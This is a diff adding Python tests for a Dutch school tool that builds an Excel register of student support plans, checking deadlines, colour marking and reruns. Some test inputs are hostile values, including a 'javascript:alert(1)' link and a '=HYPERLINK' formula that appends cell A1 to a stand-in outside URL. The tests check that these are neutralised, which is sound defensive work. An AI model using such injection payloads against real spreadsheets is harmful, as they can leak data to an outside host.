@@ -1,0 +1,174 @@
+"""The register overzicht.xlsx: one row per OPP, deadlines marked, DUO sheet, no formulas, in step."""
+
+from __future__ import annotations
+
+import zipfile
+from datetime import date, datetime, timedelta
+from pathlib import Path
+from urllib.parse import unquote
+
+from click.testing import CliRunner
+from openpyxl import load_workbook
+
+from generator import register
+from generator.cli import main
+
+from .conftest import LEERLING_KOPPEN, docx_text, leerling, make_workbook
+
+VANDAAG = date.today()  # the CLI judges deadlines against today
+KOPPEN = LEERLING_KOPPEN + ["Datum vaststelling", "Startdatum OPP", "Einddatum OPP", "Aanleiding OPP"]
+
+
+def _run(book: Path, uit: Path):
+    return CliRunner().invoke(main, ["genereer", str(book), "--uitvoer", str(uit), "--schooljaar",
+                                     "2026-2027", "--werkers", "1"], catch_exceptions=False)
+
+
+def _rij(nr, roepnaam, achternaam, klas, inschrijving, vastgesteld=None, start=None, eind=None,
+         mentor="mw. Test", aanleiding=""):
+    return leerling(nr, roepnaam, achternaam, klas, mentor=mentor, inschrijving=inschrijving) + [
+        vastgesteld, start, eind, aanleiding]
+
+
+def _export(tmp_path: Path, *rows) -> Path:
+    return make_workbook(tmp_path / "export.xlsx", {
+        "Leerlingen": [KOPPEN, *rows],
+        "Documenten": [["Stamnummer", "Soort", "Titel", "Datum", "Vindplaats"],
+                       ["1", "IOP", "IOP lezen", date(2026, 6, 1), "https://lvs.example.nl/iop/1"],
+                       ["1", "Verslag", "Verslag", date(2026, 6, 2), "javascript:alert(1)"]],
+    })
+
+
+def _sheet(path: Path, name: str) -> list[dict]:
+    ws = load_workbook(path)[name]
+    rows = list(ws.iter_rows())
+    head = [c.value for c in rows[0]]
+    return [{h: c for h, c in zip(head, row)} for row in rows[1:]]
+
+
+def _standard(tmp_path: Path) -> Path:
+    return _export(
+        tmp_path,
+        _rij("1", "Late", "Leerling", "1A", VANDAAG - timedelta(days=50), aanleiding="Dreigende afstroom"),
+        _rij("2", "Bijna", "Leerling", "1B", VANDAAG - timedelta(days=35), mentor="-de Boer"),
+        _rij("3", "Ruim", "Leerling", "2A", VANDAAG, mentor="@mentor"),
+        _rij("4", "Klaar", "Leerling", "2A", VANDAAG - timedelta(days=50), vastgesteld=VANDAAG - timedelta(days=9),
+             start=date(2026, 9, 1), eind=date(2027, 7, 31), mentor="+31 6 1234"))
+
+
+def test_register_has_one_row_per_generated_opp_with_its_link_and_dates(tmp_path):
+    uit = tmp_path / "uit"
+    result = _run(_standard(tmp_path), uit)
+    assert result.exit_code == 0, result.output
+    basis = uit / "2026-2027"
+    rows = {r["Leerlingnummer"].value: r for r in _sheet(basis / "overzicht.xlsx", "OPP's")}
+    files = sorted(p.relative_to(basis).as_posix() for p in basis.rglob("OPP_*.docx"))
+    assert sorted(r["OPP"].value for r in rows.values()) == files
+    for nr, row in rows.items():
+        target = basis / unquote(row["OPP"].hyperlink.target)
+        assert target.is_file() and target.name == f"OPP_{nr}.docx"
+        assert f"{row['Naam'].value}" in docx_text(target, "word/header1.xml") or \
+            row["Naam"].value in docx_text(target)
+        assert row["Status"].value == "nieuw"
+    late = rows["1"]
+    assert late["Naam"].value == "Late Leerling" and late["Klas"].value == "1A"
+    assert late["Aanleiding"].value == "Dreigende afstroom" and late["Soort OPP"].value == "Intake-OPP"
+    assert late["Start zes weken"].value.date() == VANDAAG - timedelta(days=50)
+    assert late["Uiterste vaststelling"].value.date() == VANDAAG - timedelta(days=8)
+    assert late["Volgende evaluatie"].value.date() == _een_jaar_min_dag(VANDAAG - timedelta(days=8))
+    assert late["Gekoppelde documenten"].value == 1 and late["Waarschuwingen"].value == 1  # javascript:
+    assert late["Uiterste vaststelling"].number_format == "DD-MM-YYYY"
+
+
+def _een_jaar_min_dag(d: date) -> date:
+    try:
+        return d.replace(year=d.year + 1) - timedelta(days=1)
+    except ValueError:
+        return d.replace(year=d.year + 1, day=28) - timedelta(days=1)
+
+
+def test_deadlines_are_marked_in_colour_and_text(tmp_path):
+    uit = tmp_path / "uit"
+    _run(_standard(tmp_path), uit)
+    rows = {r["Leerlingnummer"].value: r for r in _sheet(uit / "2026-2027/overzicht.xlsx", "OPP's")}
+    assert rows["1"]["Termijn"].value == "verlopen"
+    assert rows["2"]["Termijn"].value == "binnen 2 weken"
+    assert rows["3"]["Termijn"].value is None and rows["4"]["Termijn"].value is None  # set in time
+    colour = {nr: r["Uiterste vaststelling"].fill.fgColor.rgb for nr, r in rows.items()}
+    assert colour["1"].endswith("FFC7CE") and colour["2"].endswith("FFEB9C")
+    assert not colour["3"].endswith(("FFC7CE", "FFEB9C")) and not colour["4"].endswith(("FFC7CE", "FFEB9C"))
+
+
+def test_header_frozen_filtered_and_duo_sheet(tmp_path):
+    uit = tmp_path / "uit"
+    _run(_standard(tmp_path), uit)
+    wb = load_workbook(uit / "2026-2027/overzicht.xlsx")
+    assert wb.sheetnames == ["OPP's", "DUO"]
+    for ws in wb:
+        assert ws.freeze_panes == "A2"
+        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
+    duo = {r["Leerlingnummer"].value: r for r in _sheet(uit / "2026-2027/overzicht.xlsx", "DUO")}
+    assert list(next(iter(duo.values()))) == ["Leerlingnummer", "Naam", "Startdatum OPP", "Einddatum OPP"]
+    assert duo["4"]["Startdatum OPP"].value == datetime(2026, 9, 1)
+    assert duo["4"]["Einddatum OPP"].value == datetime(2027, 7, 31)
+    assert duo["4"]["Startdatum OPP"].number_format == "DD-MM-YYYY"
+    assert set(duo) == {"1", "2", "3", "4"}
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
+    uit = tmp_path / "uit"
+    _run(_standard(tmp_path), uit)
+    path = uit / "2026-2027/overzicht.xlsx"
+    rows = {r["Leerlingnummer"].value: r for r in _sheet(path, "OPP's")}
+    for nr, text in (("2", "-de Boer"), ("3", "@mentor"), ("4", "+31 6 1234")):
+        cell = rows[nr]["Mentor"]
+        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
+    with zipfile.ZipFile(path) as zf:
+        assert all(b"<f>" not in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
+
+
+def test_equals_sign_and_control_characters_never_become_a_formula(tmp_path):
+    rij = register.Rij("=1+1", naam='=HYPERLINK("https://x.example/?"&A1,"klik")', klas="\t=2",
+                       mentor="a\x01b", bestand="1A/OPP_1.docx")
+    path = register.schrijf(tmp_path, [rij], date(2026, 10, 1))
+    with zipfile.ZipFile(path) as zf:
+        sheet = zf.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet
+    row = _sheet(path, "OPP's")[0]
+    assert row["Naam"].value.startswith("=HYPERLINK") and row["Naam"].quotePrefix
+    assert row["Leerlingnummer"].value == "=1+1" and row["Klas"].quotePrefix
+    assert row["Mentor"].value == "a\ufffdb"
+
+
+def test_rerun_keeps_the_register_in_step_with_the_files(tmp_path):
+    uit = tmp_path / "uit"
+    basis = uit / "2026-2027"
+    _run(_standard(tmp_path), uit)
+    # second run: student 3 left the export, student 2's file was deleted by hand
+    (basis / "1B/OPP_2.docx").unlink()
+    book = _export(tmp_path, _rij("1", "Late", "Leerling", "1A", VANDAAG - timedelta(days=50),
+                                  aanleiding="Dreigende afstroom"),
+                   _rij("4", "Klaar", "Leerling", "2A", VANDAAG - timedelta(days=50),
+                        vastgesteld=VANDAAG - timedelta(days=9), start=date(2026, 9, 1),
+                        eind=date(2027, 8, 31), mentor="+31 6 1234"))  # 4's data changed
+    result = _run(book, uit)
+    assert result.exit_code == 0, result.output
+    rows = {r["Leerlingnummer"].value: r for r in _sheet(basis / "overzicht.xlsx", "OPP's")}
+    assert set(rows) == {"1", "3", "4"}  # 2: file gone; 3: file still there, kept from the last register
+    assert rows["3"]["Status"].value == register.NIET_IN_RUN
+    assert rows["3"]["Naam"].value == "Ruim Leerling" and rows["3"]["Mentor"].value == "@mentor"
+    assert rows["3"]["Uiterste vaststelling"].value.date() == VANDAAG + timedelta(days=42)
+    assert rows["1"]["Status"].value == "ongewijzigd"
+    assert rows["4"]["Status"].value != "nieuw" and rows["4"]["Einddatum OPP"].value == datetime(2027, 8, 31)
+    files = sorted(p.relative_to(basis).as_posix() for p in basis.rglob("OPP_*.docx") if "(" not in p.name)
+    assert sorted(r["OPP"].value for r in rows.values()) == files  # side copies ('(vorige)') get no row
+
+
+def test_an_opp_file_without_a_previous_register_gets_a_row_from_its_name(tmp_path):
+    (tmp_path / "3K").mkdir()
+    (tmp_path / "3K/OPP_020999.docx").write_bytes(b"ouder bestand")
+    (tmp_path / "3K/~$P_020999.docx").write_bytes(b"Word lock file")
+    path = register.schrijf(tmp_path, [], date(2026, 10, 1))
+    rows = _sheet(path, "OPP's")
+    assert [(r["Leerlingnummer"].value, r["Klas"].value, r["OPP"].value) for r in rows] == \
+        [("020999", "3K", "3K/OPP_020999.docx")]
